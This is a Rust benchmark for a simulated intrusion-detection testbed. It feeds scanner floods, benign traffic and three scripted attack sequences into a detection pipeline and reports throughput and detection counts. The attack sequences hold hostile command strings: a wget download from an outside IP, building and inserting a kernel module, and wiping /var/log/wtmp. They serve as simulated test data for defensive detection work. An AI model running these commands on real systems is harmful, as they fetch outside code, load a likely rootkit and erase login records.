//! E8 — Fig. 4 pipeline: the testbed end to end under a mixed workload.
//!
//! A mixture of mass-scanner floods, benign traffic, and embedded attacks
//! flows through border filtering → monitors → symbolization → scan filter
//! → detection → response. Reports per-stage counts and throughput for the
//! in-line (deterministic) and streaming (threaded) variants.

use bench::{banner, write_artifact};
use simnet::intern::SymScope;
use simnet::prelude::*;
use testbed::{Testbed, TestbedConfig};

fn main() {
    banner("Fig. 4 pipeline throughput (E8)");
    let mut tb = Testbed::new(TestbedConfig::default());
    let start = tb.config().start;
    let production = simnet::addr::ncsa_production();

    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    let mut id = 0u64;
    // 1) Mass scanner flood: 50k probes.
    for i in 0..50_000u64 {
        let t = start + SimDuration::from_millis(i * 4);
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(id),
                t,
                "103.102.8.9".parse().unwrap(),
                production.nth(i % 65_536),
                22,
            )),
        ));
    }
    // 2) Benign traffic: 20k established flows.
    let mut rng = SimRng::seed(42);
    for i in 0..20_000u64 {
        let t = start + SimDuration::from_millis(i * 10);
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::established(
                FlowId(id),
                t,
                SimDuration::from_secs(rng.range_u64(1, 120)),
                production.nth(rng.range_u64(256, 20_000)),
                (40_000 + (i % 20_000)) as u16,
                production.nth(rng.range_u64(256, 20_000)),
                [22, 443, 2049][rng.index(3)],
                rng.range_u64(500, 100_000),
                rng.range_u64(500, 100_000),
            )),
        ));
    }
    // 3) Three embedded S1 attacks on compute nodes.
    for (k, user) in ["eve", "mallory", "trudy"].iter().enumerate() {
        let host = simnet::topology::HostId(4 + k as u32);
        for (i, cmd) in [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod abs.ko",
            "echo 0>/var/log/wtmp",
        ]
        .iter()
        .enumerate()
        {
            let t = start + SimDuration::from_mins(5 + 11 * i as u64 + k as u64);
            actions.push((
                t,
                Action::Exec(ExecAction {
                    host,
                    user: user.to_string(),
                    pid: (1_000 * (k + 1) + i) as u32,
                    ppid: 1,
                    exe: "/bin/bash".into(),
                    cmdline: cmd.to_string(),
                }),
            ));
        }
    }
    let n_actions = actions.len();
    tb.schedule(actions);

    let t0 = std::time::Instant::now();
    let report = tb.run();
    let elapsed = t0.elapsed();
    let throughput = n_actions as f64 / elapsed.as_secs_f64();

    println!("\nper-stage counts:");
    println!("  actions (E1..En)      : {}", report.actions);
    println!("  flows routed          : {}", report.router.total());
    println!("  flows dropped (BHR)   : {}", report.router.dropped);
    println!("  records               : {}", report.stats.records);
    println!("  alerts (symbolized)   : {}", report.stats.alerts);
    println!("  alerts after filter   : {}", report.stats.admitted);
    println!("  detections            : {}", report.stats.detections);
    println!("  blocked sources       : {}", report.blocked_sources);
    println!("\nin-line pipeline: {n_actions} actions in {elapsed:?} ({throughput:.0} actions/s)");
    assert_eq!(
        report.stats.detections, 3,
        "the three embedded attacks must be detected"
    );
    for n in &report.notifications {
        println!("  [{}] {}", n.ts, n.message());
    }

    // Streaming comparison on a pre-collected record stream.
    let records: Vec<telemetry::LogRecord> = {
        use simnet::engine::ActionSink;
        // Rebuild the same scan workload and collect raw records.
        let topo = simnet::topology::NcsaTopologyBuilder::default().build();
        let mut hub = telemetry::MonitorHub::standard(&SymScope::global());
        let mut engine = simnet::engine::Engine::new(topo, start);
        for i in 0..50_000u64 {
            let t = start + SimDuration::from_millis(i * 4);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.8.9".parse().unwrap(),
                    production.nth(i % 65_536),
                    22,
                )),
            );
        }
        engine.run(&mut [&mut hub as &mut dyn ActionSink]);
        hub.drain()
    };
    let n_records = records.len();
    let t1 = std::time::Instant::now();
    let stream_report = testbed::PipelineBuilder::new()
        .tagger(detect::AttackTagger::new(
            bench::standard_model(),
            detect::TaggerConfig::default(),
        ))
        .executor(testbed::ExecutorKind::Threaded)
        .alert_retention(0)
        .build()
        .run(records);
    let stats = stream_report.stats;
    let stream_elapsed = t1.elapsed();
    println!(
        "\nstreaming pipeline: {} records in {:?} ({:.0} records/s) -> {} alerts, {} admitted, {} detections",
        n_records,
        stream_elapsed,
        n_records as f64 / stream_elapsed.as_secs_f64(),
        stats.alerts,
        stats.admitted,
        stats.detections
    );

    write_artifact(
        "pipeline",
        &serde_json::json!({
            "actions": report.actions,
            "records": report.stats.records,
            "alerts": report.stats.alerts,
            "alerts_filtered": report.stats.admitted,
            "detections": report.stats.detections,
            "blocked_sources": report.blocked_sources,
            "router_dropped": report.router.dropped,
            "inline_actions_per_sec": throughput,
            "streaming_records_per_sec": n_records as f64 / stream_elapsed.as_secs_f64(),
        }),
    );
}
